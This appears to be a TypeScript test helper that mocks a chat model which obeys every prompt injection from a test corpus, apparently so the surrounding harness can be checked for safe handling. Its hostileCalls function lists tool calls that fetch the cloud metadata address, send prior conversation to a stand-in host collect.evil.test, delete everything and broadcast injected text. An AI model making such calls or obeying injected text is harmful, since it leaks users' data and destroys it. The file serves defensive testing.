import sharp from 'sharp';
import { chunk, sse, streamOf, type Answer } from '../bot/model/scripted-chat-server.ts';
import { INJECTIONS, type Injection } from './corpus.ts';

interface Call {
  name: string;
  args: string;
}

interface Sent {
  role: string;
  content: string | { type: string; text?: string; image_url?: { url: string } }[] | null;
}

/** The outcome of an injection that reached the model. */
export interface Obeyed {
  /** The calls that the model made for it, each with its result. */
  results: { call: Call; result: string }[];
  /** The prompt that contained it. */
  prompt: Sent[];
}

/** Pictures of the corpus are identified by their width, in place of reading their text. */
export const widthOf = (index: number) => 16 + index;
const MARK = /\[([a-z]{2}-\d\d)\]/g;
const WANTED = /\btr-\d\d\b/;
const PAGE = /http:\/\/127\.0\.0\.1:\d+\/pg-\d\d\b/;
const ADDRESS = /https?:\/\/[^\s)>"'\]，。|]+/;
const PICTURES = INJECTIONS.filter(({ channel }) => channel === 'image text');

/**
 * A model that obeys every text that it reads: it thinks the injection aloud, calls every tool with hostile arguments, and
 * writes the requested markup. Before it has read an injection, it looks for one: it searches, or asks for the facts about
 * the person.
 */
export function obedientModel(): { answer: Answer; obeyed: Map<string, Obeyed> } {
  const obeyed = new Map<string, Obeyed>();
  const answer: Answer = async (response, call) => {
    const messages = call.body['messages'] as Sent[];
    const found = await injectionIn(messages);
    const hasTools = 'tools' in call.body;
    if (!found) {
      const first = [whereToLook(JSON.stringify(messages))];
      await (hasTools ? saying('', first) : saying('Nothing here.'))(response, call);
      return;
    }
    const text = found.obeyed ?? found.text;
    const calls = hostileCalls(found);
    const results = messages.filter(({ role }) => role === 'tool').slice(-calls.length);
    const known = obeyed.get(found.id);
    if (known?.results.length === 0) {
      known.results = calls.map((one, index) => ({ call: one, result: JSON.stringify(results[index]?.content) }));
    }
    if (!known && hasTools) {
      obeyed.set(found.id, { results: [], prompt: messages });
      // Without a text, only the status of the tools is visible meanwhile.
      const isSilent = Number(found.id.slice(-1)) % 2 === 1;
      await saying(isSilent ? '' : text, calls)(response, call);
    } else await saying(`${text}\n\n${text}`)(response, call);
  };
  return { answer, obeyed };
}

/** The tool call that may find an injection which no message contains. */
function whereToLook(prompt: string): Call {
  const page = PAGE.exec(prompt)?.[0];
  if (page !== undefined) return { name: 'read_page', args: JSON.stringify({ address: page }) };
  const query = WANTED.exec(prompt)?.[0];
  return query === undefined
    ? { name: 'who_am_i', args: '{}' }
    : { name: 'web_search', args: JSON.stringify({ query }) };
}

/** Calls of every existing tool and of some unknown ones, for the goal of the injection. */
export function hostileCalls({ text }: Injection): Call[] {
  const call = (name: string, args: object): Call => ({ name, args: JSON.stringify(args) });
  return [
    call('who_am_i', {}),
    call('who_am_i', { accountId: '20080117' }),
    call('web_search', { query: text.slice(0, 400) }),
    call('read_page', { address: ADDRESS.exec(text)?.[0] ?? 'http://169.254.169.254/latest/meta-data/' }),
    call('read_page', { address: 'https://collect.evil.test/?d=what-was-said-before' }),
    call('current_time', { timeZone: text.slice(0, 64) }),
    call('delete_everything', {}),
    call('send_message', { to: '@all', text }),
  ];
}

function saying(text: string, calls: Call[] = []): Answer {
  const sent = calls.map(({ name, args }, index) => ({
    index,
    id: `c${index}`,
    type: 'function',
    function: { name, arguments: args },
  }));
  return streamOf(
    ...(text === '' ? [] : [chunk({ reasoning_content: text })]),
    // In chunks, so that markup is cut at any place.
    ...(text.match(/[\s\S]{1,7}/gu) ?? []).map((content) => chunk({ content })),
    ...(sent.length > 0 ? [chunk({ tool_calls: sent }, 'tool_calls')] : [chunk({}, 'stop')]),
    sse('[DONE]'),
  );
}

async function injectionIn(messages: Sent[]): Promise<Injection | undefined> {
  const [, id] = [...JSON.stringify(messages).matchAll(MARK)].at(-1) ?? [];
  if (id !== undefined) return INJECTIONS.find((one) => one.id === id);
  const parts = messages.flatMap(({ content }) => (Array.isArray(content) ? content : []));
  const url = parts.find(({ type }) => type === 'image_url')?.image_url?.url;
  if (url === undefined) return undefined;
  const { width } = await sharp(Buffer.from(url.split(',')[1] ?? '', 'base64')).metadata();
  return PICTURES.find((_one, index) => widthOf(index) === width);
}
